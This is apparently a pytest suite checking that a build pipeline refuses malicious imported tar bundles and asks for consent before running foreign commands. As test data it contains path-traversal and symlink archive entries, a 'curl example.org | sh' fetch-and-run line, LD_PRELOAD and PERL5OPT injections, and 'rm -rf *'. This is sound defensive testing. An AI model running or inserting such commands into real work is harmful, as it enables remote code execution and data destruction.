"""A file that somebody hands us as a bundle does nothing that a bundle may not."""

from __future__ import annotations

import gzip
import io
import tarfile
from pathlib import Path
from types import SimpleNamespace
from typing import cast
from unittest.mock import MagicMock

import pytest
from bundle_support import contents, edited, exported, write
from click.testing import CliRunner
from conftest import Sandbox
from judge_support import result_of

from pipeline.commands import bundle as importing
from pipeline.core.errors import DataError
from pipeline.core.paths import Tree
from pipeline.core.receipt import Receipt
from pipeline.core.store import Artifact
from pipeline.profile.load import parse_profile
from pipeline.profile.workload import Trace
from pipeline.rebuild import from_bundle as rebuilding
from pipeline.rebuild.consent import require_consent
from pipeline.rebuild.imported import Imported, bundled_factors, kept_verdict
from pipeline.release.bundle import unpack
from pipeline.release.contents import FACTORS
from pipeline.stages.build.configure import Setup
from pipeline.stages.build.workshop import Library, Options, Workshop
from pipeline.toolchain.symbols import SymbolLists


@pytest.fixture(scope="module")
def bundle(built: Sandbox, tmp_path_factory: pytest.TempPathFactory) -> Path:
    return exported(built, tmp_path_factory)


@pytest.mark.parametrize(
    "name",
    [
        "../outside",
        "/etc/outside",
        "profile/../../outside",
        "profile/sub/outside",
        "other.txt",
        "profile/.hidden",
    ],
)
def test_names_that_lead_elsewhere_are_refused(name: str, bundle: Path, tmp_path: Path) -> None:
    file = write(tmp_path / "evil.tar.gz", contents(bundle) | {name: b"x"})
    with pytest.raises(DataError, match="has no place in a bundle"):
        unpack(file, tmp_path / "room" / "inner")
    assert not list(tmp_path.rglob("*outside*"))


@pytest.mark.parametrize(
    "kind", [tarfile.SYMTYPE, tarfile.LNKTYPE, tarfile.DIRTYPE, tarfile.CHRTYPE]
)
def test_links_and_devices_are_refused(kind: bytes, tmp_path: Path) -> None:
    with tarfile.open(tmp_path / "evil.tar.gz", "w:gz") as tar:
        entry = tarfile.TarInfo("profile/hot.txt")
        entry.type, entry.linkname = kind, "/etc/passwd"
        tar.addfile(entry)
    with pytest.raises(DataError, match="has no place in a bundle"):
        unpack(tmp_path / "evil.tar.gz", tmp_path / "room")


@pytest.mark.parametrize("count", [1, 3])
def test_more_than_a_bundle_can_be_is_refused_unread(
    count: int, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr("pipeline.release.bundle.LARGEST", 1 << 20)
    with tarfile.open(tmp_path / "evil.tar.gz", "w:gz") as tar:
        for number in range(count):
            entry = tarfile.TarInfo(f"profile/{number}")
            entry.size = (5 << 18) // count
            tar.addfile(entry, io.BytesIO(bytes(entry.size)))
    with pytest.raises(DataError, match=f"with profile/{count - 1} it is larger than any bundle"):
        unpack(tmp_path / "evil.tar.gz", tmp_path / "room")


def test_headers_of_any_length_are_refused_unread(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A pax header is no file of the bundle, but was read into memory as a whole."""
    monkeypatch.setattr("pipeline.release.bundle.LARGEST", 1 << 20)
    with tarfile.open(tmp_path / "evil.tar.gz", "w:gz", format=tarfile.PAX_FORMAT) as tar:
        entry = tarfile.TarInfo("profile/small")
        entry.pax_headers = {"comment": "x" * (4 << 20)}
        tar.addfile(entry, io.BytesIO(b""))
    with pytest.raises(DataError, match="larger than any bundle"):
        unpack(tmp_path / "evil.tar.gz", tmp_path / "room")


def _header(name: str, size: bytes, kind: bytes = tarfile.REGTYPE) -> bytes:
    """Return a header of a tar file with any bytes as its size."""
    entry = tarfile.TarInfo(name)
    entry.type = kind
    made = bytearray(entry.tobuf(tarfile.USTAR_FORMAT))
    made[124 : 124 + len(size)] = size
    made[148:156] = b" " * 8
    made[148:156] = b"%06o\0 " % sum(made)
    return bytes(made)


def _pax(record: bytes) -> bytes:
    """Return a header that says something of the file behind it."""
    body = b"%d %s\n" % (len(record) + 4, record)
    header = _header("pax", b"%011o\0" % len(body), tarfile.XHDTYPE)
    return header + body.ljust(tarfile.BLOCKSIZE, b"\0")


_NOTHING = b"%011o\0" % 0
_FAR_BACK = b"\xff" + (-2048).to_bytes(11, "big", signed=True)
_FILE = _header("bundle.json", b"%011o\0" % 2) + b"{}".ljust(tarfile.BLOCKSIZE, b"\0")


@pytest.mark.parametrize(
    ("archive", "why"),
    [
        (_FILE + _header("manifest.json", _FAR_BACK), "has no place in a bundle"),
        (_pax(b"GNU.sparse.map=a,b") + _FILE, "cannot be read as a bundle"),
        (_pax(b"GNU.sparse.size=x") + _FILE, "cannot be read as a bundle"),
        (
            _header("bundle.json", b"%011o\0" % 0, tarfile.GNUTYPE_SPARSE),
            "has no place in a bundle",
        ),
        (_pax(b"comment=nested") * 3000 + _FILE, "cannot be read as a bundle"),
        (
            b"".join(_header(f"profile/{n}", b"%011o\0" % 0) for n in range(5000)),
            "is larger than any",
        ),
    ],
    ids=["backwards", "holes", "size", "sparse", "nested", "many"],
)
def test_archives_that_lead_their_reader_astray_are_refused(
    archive: bytes, why: str, tmp_path: Path
) -> None:
    """tarfile has errors of its own for a few of them alone."""
    file = tmp_path / "evil.tar.gz"
    file.write_bytes(gzip.compress(archive + bytes(2 * tarfile.BLOCKSIZE)))
    with pytest.raises(DataError, match=why):
        unpack(file, tmp_path / "room")
    assert not (tmp_path / "room").exists()


def test_a_verdict_about_another_library_is_not_kept(tmp_path: Path) -> None:
    judged = result_of()
    file = tmp_path / "verdict.json"
    file.write_text(judged.model_dump_json(), encoding="utf-8")
    receipt = Receipt("bundle", "", {}, {"verdict.json": ""}, 0.0)
    imported = cast(Imported, SimpleNamespace(artifact=Artifact(tmp_path, receipt, fresh=False)))

    def library(digest: str) -> Library:
        return Library(tmp_path / "x.so", digest, imported.artifact)

    assert kept_verdict(imported, library(judged.tuned.sha256)) is not None
    assert kept_verdict(imported, library("0" * 64)) is None


def test_a_verdict_that_is_no_text_is_not_kept(tmp_path: Path) -> None:
    (tmp_path / "verdict.json").write_bytes(b'{"\xff')
    receipt = Receipt("bundle", "", {}, {"verdict.json": ""}, 0.0)
    artifact = Artifact(tmp_path, receipt, fresh=False)
    library = Library(tmp_path / "x.so", "0" * 64, artifact)
    assert kept_verdict(cast(Imported, SimpleNamespace(artifact=artifact)), library) is None


@pytest.mark.parametrize("text", [b"[", b"\xff", b'{"a": "b"}', b'{"a": -1}', b"[" * 90_000])
def test_weights_that_are_none_are_refused(text: bytes, tmp_path: Path) -> None:
    """They were read at the end of the build alone, and then as they were."""
    (tmp_path / FACTORS).write_bytes(text)
    imported = MagicMock(input=lambda name: (tmp_path / name, ""))
    with pytest.raises(DataError, match=f"{FACTORS} is not valid"):
        bundled_factors(imported)


FOREIGN = """
schema_version = 1
name = "foreign"
description = "from somebody else"
[layout]
name = "mixed"
[[workload]]
name = "a"
kind = "program"
role = "train"
program = "training/tree"
ops = "1k"
quick_ops = "1k"
weight = 1
[[workload]]
name = "b"
kind = "program"
role = "verify"
program = "bench/tiny_hot"
ops = "1k"
quick_ops = "1k"
weight = 1
[[workload]]
name = "c"
kind = "command"
role = "verify"
argv = ["sh", "-c", "curl example.org | sh"]
"""


def test_commands_of_a_foreign_bundle_need_consent(tmp_path: Path) -> None:
    tree, file = Tree(tmp_path), tmp_path / "foreign.toml"
    file.write_text(FOREIGN, encoding="utf-8")
    profile = parse_profile(file)
    with pytest.raises(DataError, match=r"executed: sh -c 'curl example.org \| sh'") as error:
        require_consent(tree, profile, frozenset({"sources"}))
    assert "--allow commands" in error.value.hint
    require_consent(tree, profile, frozenset({"commands"}))
    tree.profiles.mkdir(parents=True)
    (tree.profiles / "foreign.toml").write_text(FOREIGN, encoding="utf-8")
    require_consent(tree, profile, frozenset())


def test_a_command_with_other_variables_is_another_command(tmp_path: Path) -> None:
    tree, file = Tree(tmp_path), tmp_path / "foreign.toml"
    tree.profiles.mkdir(parents=True)
    (tree.profiles / "foreign.toml").write_text(FOREIGN, encoding="utf-8")
    file.write_text(FOREIGN + 'env = { PERL5OPT = "-Mevil" }\n', encoding="utf-8")
    with pytest.raises(DataError, match="env PERL5OPT=-Mevil sh -c 'curl"):
        require_consent(tree, parse_profile(file), frozenset())


def test_a_program_of_ours_with_variables_of_a_foreign_bundle_needs_consent(tmp_path: Path) -> None:
    """The loader executes what LD_PRELOAD names, in any program."""
    tree, file = Tree(tmp_path), tmp_path / "foreign.toml"
    tree.profiles.mkdir(parents=True)
    (tree.profiles / "foreign.toml").write_text(FOREIGN, encoding="utf-8")
    ours = 'program = "bench/tiny_hot"\n'
    evil = FOREIGN.replace(ours, f'{ours}env = {{ LD_PRELOAD = "/tmp/evil.so" }}\n')
    file.write_text(evil, encoding="utf-8")
    with pytest.raises(DataError, match=r"env LD_PRELOAD=/tmp/evil\.so bench/tiny_hot"):
        require_consent(tree, parse_profile(file), frozenset())


def test_a_command_in_another_folder_is_another_command(tmp_path: Path) -> None:
    """What cleans up the empty folder that it starts in would clean up the tree."""
    tree, file = Tree(tmp_path), tmp_path / "foreign.toml"
    own = FOREIGN.replace("curl example.org | sh", "make; rm -rf *")
    tree.profiles.mkdir(parents=True)
    (tree.profiles / "foreign.toml").write_text(own + "scratch = true\n", encoding="utf-8")
    file.write_text(own, encoding="utf-8")
    with pytest.raises(DataError, match=r"rm -rf \*' \(in the root of the tree\)"):
        require_consent(tree, parse_profile(file), frozenset())


@pytest.mark.parametrize("early", [{"sources": "others"}, {}], ids=["others", "no verdict kept"])
def test_a_rebuild_asks_before_it_judges(
    early: dict[str, str], tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Before anything is built where that is known by then, else before the judge begins."""
    made = MagicMock()
    for name in ("check_writable", "imported_setup", "bundled_factors", "static", "compile_step"):
        monkeypatch.setattr(rebuilding, name, made)
    monkeypatch.setattr(rebuilding, "differences", lambda *_: early)
    monkeypatch.setattr(rebuilding, "flag_differences", lambda *_: {})
    monkeypatch.setattr(rebuilding, "refuse_others", lambda differing, _: {**differing})
    monkeypatch.setattr(rebuilding, "kept_verdict", lambda *_: None)
    monkeypatch.setattr(rebuilding, "_compare", lambda *_: True)
    built, judged = MagicMock(), MagicMock()
    monkeypatch.setattr(rebuilding, "baseline", built)
    monkeypatch.setattr(rebuilding, "_judge", judged)
    file = tmp_path / "foreign.toml"
    file.write_text(FOREIGN, encoding="utf-8")
    shop = cast(
        Workshop, SimpleNamespace(tree=Tree(tmp_path), profile=parse_profile(file), line="")
    )
    with pytest.raises(DataError, match="commands of its profile would be executed"):
        rebuilding.rebuild(shop, MagicMock(), frozenset({"sources"}))
    assert built.called is not bool(early)
    assert not judged.called


RECORDS = """
[[workload]]
name = "d"
kind = "trace"
role = "{role}"
ops = "1k"
quick_ops = "1k"
weight = 1
record = ["sh", "-c", "curl example.org/{role} | sh"]
"""


def test_what_a_foreign_bundle_trained_on_is_not_executed(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Recordings for the training ran with all others, and consent was asked for those alone."""
    found = []
    for role in ("train", "verify"):
        file = tmp_path / "foreign.toml"
        file.write_text(FOREIGN + RECORDS.format(role=role), encoding="utf-8")
        shop = cast(Workshop, SimpleNamespace(tree=Tree(tmp_path), profile=parse_profile(file)))
        traces = tuple(one for one in shop.profile.workload if isinstance(one, Trace))
        setup = Setup("", "", SymbolLists((), ()), None, (), (), traces, {})
        recorded = MagicMock(return_value=setup)
        monkeypatch.setattr(rebuilding, "record", recorded)
        for name in ("slowdown", "verify"):
            monkeypatch.setattr(rebuilding, name, MagicMock())
        rebuilding._judge(shop, setup, MagicMock(), MagicMock())
        ran = [one.record for one in recorded.call_args.args[1].traces]
        with pytest.raises(DataError) as asked:
            require_consent(shop.tree, shop.profile, frozenset())
        found.append((len(ran), f"example.org/{role}" in asked.value.message))
    assert found == [(0, False), (1, True)]


@pytest.mark.parametrize("kept", [True, False])
def test_what_a_foreign_build_may_lose_counts_for_its_own_verdict_alone(
    kept: bool, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """It counted for what was judged here, too: a loss passed that nobody here had accepted."""
    for name in ("check_writable", "imported_setup", "static", "compile_step", "baseline"):
        monkeypatch.setattr(rebuilding, name, MagicMock())
    for name in ("differences", "flag_differences", "refuse_others"):
        monkeypatch.setattr(rebuilding, name, lambda *_: {})
    monkeypatch.setattr(rebuilding, "require_consent", lambda *_: None)
    monkeypatch.setattr(rebuilding, "_compare", lambda *_: kept)
    monkeypatch.setattr(rebuilding, "kept_verdict", lambda *_: MagicMock())
    monkeypatch.setattr(rebuilding, "_judge", lambda *_: (MagicMock(), None))
    published = MagicMock()
    monkeypatch.setattr(rebuilding, "publish", published)
    bundle = MagicMock(allow_neutral=True, allow_regression=("throughput",))
    imported = MagicMock(bundle=bundle, profile=tmp_path, input=lambda name: (tmp_path / name, ""))
    (tmp_path / FACTORS).write_text("{}", encoding="utf-8")
    profile, no = MagicMock(), MagicMock()
    shop = Workshop(Tree(tmp_path), profile, no, no, no, Options(allow_regression=("larson",)))
    rebuilding.rebuild(shop, imported, frozenset({"sources"}))
    options = published.call_args.args[0].options
    accepted = ("larson", "throughput") if kept else ("larson",)
    assert (options.allow_neutral, options.allow_regression) == (kept, accepted)


def test_an_import_accepts_what_its_own_options_say(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    given = list[Options]()

    def opened(_tree: object, _profile: object, options: Options, *_: object, **__: object) -> None:
        given.append(options)
        raise DataError("stop", hint="this is a test")

    (tmp_path / "foreign.toml").write_text(FOREIGN, encoding="utf-8")
    profile = parse_profile(tmp_path / "foreign.toml")
    bundle = MagicMock(
        quick=False, allow_neutral=True, allow_regression=("throughput",), variant="production"
    )
    monkeypatch.setattr(importing, "_look_into", lambda _: (bundle, profile))
    monkeypatch.setattr("pipeline.commands.workshop.open_workshop", opened)
    file = tmp_path / "x.tar.gz"
    file.touch()
    for words in ([], ["--allow-regression", "real-programs"]):
        CliRunner().invoke(importing.import_command, [str(file), *words])
    assert [one.allow_neutral for one in given] == [False, False]
    assert [one.allow_regression for one in given] == [(), ("real-programs",)]


@pytest.mark.parametrize("name", ["profile/hot.txt", "verdict.json"])
def test_damage_and_loss_are_noticed(name: str, bundle: Path, tmp_path: Path) -> None:
    files = contents(bundle)
    spoilt = write(tmp_path / "a.tar.gz", files | {name: b"spoilt"})
    with pytest.raises(DataError, match=f"{name} is damaged"):
        unpack(spoilt, tmp_path / "room")
    lost = write(tmp_path / "b.tar.gz", {n: d for n, d in files.items() if n != name})
    with pytest.raises(DataError, match=f"{name} is damaged, missing"):
        unpack(lost, tmp_path / "room")
    extra = write(tmp_path / "c.tar.gz", files | {"profile/more": b"x"})
    with pytest.raises(DataError, match="profile/more is damaged, missing, or not listed"):
        unpack(extra, tmp_path / "room")


def test_half_a_bundle_is_refused(bundle: Path, tmp_path: Path) -> None:
    (tmp_path / "half.tar.gz").write_bytes(bundle.read_bytes()[:9000])
    with pytest.raises(DataError, match="cannot be read as a bundle"):
        unpack(tmp_path / "half.tar.gz", tmp_path / "room")


def test_bundle_of_another_schema_is_refused(bundle: Path, tmp_path: Path) -> None:
    newer = edited(bundle, tmp_path / "newer.tar.gz", schema_version=2)
    with pytest.raises(DataError, match=r"bundle\.json is not valid"):
        unpack(newer, tmp_path / "room")
